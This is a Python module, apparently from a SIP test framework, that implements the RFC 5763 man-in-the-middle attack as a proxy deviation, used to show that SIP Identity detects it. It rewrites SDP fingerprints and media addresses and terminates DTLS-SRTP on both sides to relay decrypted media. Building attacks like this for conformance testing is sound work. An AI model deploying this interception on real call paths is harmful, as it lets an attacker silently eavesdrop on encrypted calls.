"""RFC 5763 §8's man in the middle, as a proxy deviation (`mitm`): the attack SIP Identity exists to stop.

A proxy on the signalling path rewrites the offer and the answer: each side's a=fingerprint becomes
the attacker's own certificate's and each media address one of its own sockets. Its media box (two
pinhole media sessions on the proxy's address, one per side) runs the DTLS handshake with each side
as the other would, verifying each against the fingerprint that side really sent, and relays what it
decrypts on one side, protected again with the other side's keys. Neither side can tell: both
handshakes complete and match the a=fingerprint their SDP carried. Only an integrity-protected
offer (RFC 8224 Identity with the fingerprints in the PASSporT's mky claim) exposes the rewrite;
the verdict's end-to-end check reads it from the wire (what was sent against what arrived).

One association per side: rtcp-mux only (an offer without it is forwarded untouched).
"""

from __future__ import annotations

import asyncio
import socket
from dataclasses import dataclass

from pinhole import dtls, sdp
from pinhole.events import EventLog
from pinhole.media import MediaSession, MediaTimers
from pinhole.timers import SIP_T1

PROFILES = ("SRTP_AEAD_AES_128_GCM", "SRTP_AES128_CM_SHA1_80")


def media_timers(sip_t1: float) -> MediaTimers:
    """The RFC 6347 and RFC 5389 timers, shortened as the proxy's SIP T1 is."""
    scale = min(1.0, sip_t1 / SIP_T1)  # the media box's DTLS and STUN timers scale as SIP T1 does
    rfc = MediaTimers()
    timer = dtls.RetransmitTimer(initial=rfc.dtls.initial * scale, maximum=rfc.dtls.maximum * scale)
    return MediaTimers(dtls=timer, stun_rto=rfc.stun_rto * scale)


def rewrite(body: bytes, address: str, port: int, fingerprint: sdp.Fingerprint) -> bytes:
    """`body` with the first audio stream's address and port, and every a=fingerprint, the attacker's."""
    described = sdp.parse(body)
    if described.connection is not None:
        described.connection = f"IN IP4 {address}"
    audio = next(m for m in described.media if m.media == "audio")
    audio.port = port
    if audio.connection is not None:
        audio.connection = f"IN IP4 {address}"
    for attributes in (described.attributes, audio.attributes):
        attributes[:] = [(n, str(fingerprint) if n == "fingerprint" else v) for n, v in attributes]
    return sdp.serialize(described).encode()


@dataclass
class _Box:
    """The media box of one call: a session toward each side, the offer as it came, the bodies as sent on,
    and which answer it rewrites: the 2xx to the initial INVITE (its CSeq) from the first dialog (To tag)."""

    toward_caller: MediaSession
    toward_callee: MediaSession
    offer: sdp.DtlsSrtpMedia
    offer_sent: bytes
    cseq: int
    answer_sent: bytes = b""
    dialog: str = ""  # the To tag of the 2xx the box answers for


class MediaInTheMiddle:
    """Rewrites the SDP of the calls a proxy forwards and terminates their DTLS on both sides."""

    def __init__(self, address: str, events: EventLog, sip_t1: float) -> None:
        self.address = address
        self.events = events
        self.timers = media_timers(sip_t1)
        self.certificate = dtls.Certificate.generate("mallory")
        self.fingerprint = sdp.certificate_fingerprint(self.certificate.der)
        self.boxes: dict[str, _Box] = {}
        self.tasks: set[asyncio.Task[object]] = set()  # sockets being attached to their sessions

    def _open(self, call_id: str) -> tuple[MediaSession, int]:
        """A media session on a fresh port of the proxy's address; the socket is bound now (its port goes
        in the SDP at once), the asyncio transport attached as soon as the loop runs (kept in `tasks`)."""
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((self.address, 0))
        sock.setblocking(False)
        session = MediaSession(
            certificate=self.certificate,
            events=self.events,
            call_id=call_id,
            timers=self.timers,
            srtp_profiles=PROFILES,
        )
        loop = asyncio.get_running_loop()
        task = loop.create_task(loop.create_datagram_endpoint(lambda: session, sock=sock))
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)
        return session, sock.getsockname()[1]

    def offer(self, call_id: str, body: bytes, cseq: int) -> bytes:
        """The offer on its way to the callee: the caller's address and fingerprint become ours."""
        if call_id in self.boxes:  # a retransmission: the same rewrite
            return self.boxes[call_id].offer_sent
        try:
            offer = sdp.read_offer(sdp.parse(body))
        except sdp.SdpError:
            return body
        if not offer.rtcp_mux:
            return body
        toward_caller, _ = self._open(call_id)
        toward_callee, callee_port = self._open(call_id)
        toward_callee.accept_early_client_hello = True  # actpass: the callee's ClientHello may beat its answer
        toward_caller.set_peer_fingerprints([(f.hash_function, f.value) for f in offer.fingerprints])
        toward_caller.relay_to, toward_callee.relay_to = toward_callee, toward_caller
        sent = rewrite(body, self.address, callee_port, self.fingerprint)
        self.boxes[call_id] = _Box(toward_caller, toward_callee, offer, sent, cseq)
        self.events.emit(
            "mitm.offer_rewritten",
            call_id,
            caller_media=f"{offer.address}:{offer.port}",
            caller_fingerprint=str(offer.fingerprints[0]) if offer.fingerprints else "",
            fingerprint=str(self.fingerprint),
            media=f"{self.address}:{callee_port}",
        )
        return sent

    def answer(self, call_id: str, body: bytes, cseq: int, dialog: str) -> bytes:
        """The answer on its way back: the callee's address and fingerprint become ours, and each side's
        handshake starts in the role the answer gives it (RFC 4145). Only the initial INVITE's first
        dialog: a re-INVITE's answer or another fork's goes on as it came (the box holds one association
        per side)."""
        box = self.boxes.get(call_id)
        if box is None or cseq != box.cseq or (box.dialog and dialog != box.dialog):
            return body
        if box.answer_sent:  # a retransmitted 2xx
            return box.answer_sent
        try:
            answer = sdp.read_answer(sdp.parse(body), box.offer)
        except sdp.SdpError:
            return body
        callee = (answer.address, answer.port)
        callee_role = dtls.Role.CLIENT if answer.setup == sdp.Setup.ACTIVE else dtls.Role.SERVER
        ours = dtls.Role.SERVER if callee_role is dtls.Role.CLIENT else dtls.Role.CLIENT
        box.toward_callee.set_remote(callee)
        box.toward_callee.set_peer_fingerprints([(f.hash_function, f.value) for f in answer.fingerprints])
        box.toward_callee.accept_early_client_hello = False
        if box.toward_callee.endpoint is None:
            box.toward_callee.start_dtls(ours, callee)
        caller = (box.offer.address, box.offer.port)
        box.toward_caller.start_dtls(callee_role, caller)  # to the caller we are the callee, in its role
        box.dialog = dialog
        box.answer_sent = rewrite(body, self.address, box.toward_caller.local_address[1], self.fingerprint)
        self.events.emit(
            "mitm.answer_rewritten",
            call_id,
            callee_media=f"{answer.address}:{answer.port}",
            callee_fingerprint=str(answer.fingerprints[0]) if answer.fingerprints else "",
            fingerprint=str(self.fingerprint),
            media=f"{self.address}:{box.toward_caller.local_address[1]}",
        )
        return box.answer_sent

    def end(self, call_id: str, reason: str) -> None:
        """The call is over (its BYE went through): both sides' sessions close."""
        box = self.boxes.pop(call_id, None)
        if box is not None:
            for session in (box.toward_caller, box.toward_callee):
                session.teardown(reason)

    def close(self) -> None:
        for call_id in list(self.boxes):
            self.end(call_id, "proxy stopped")
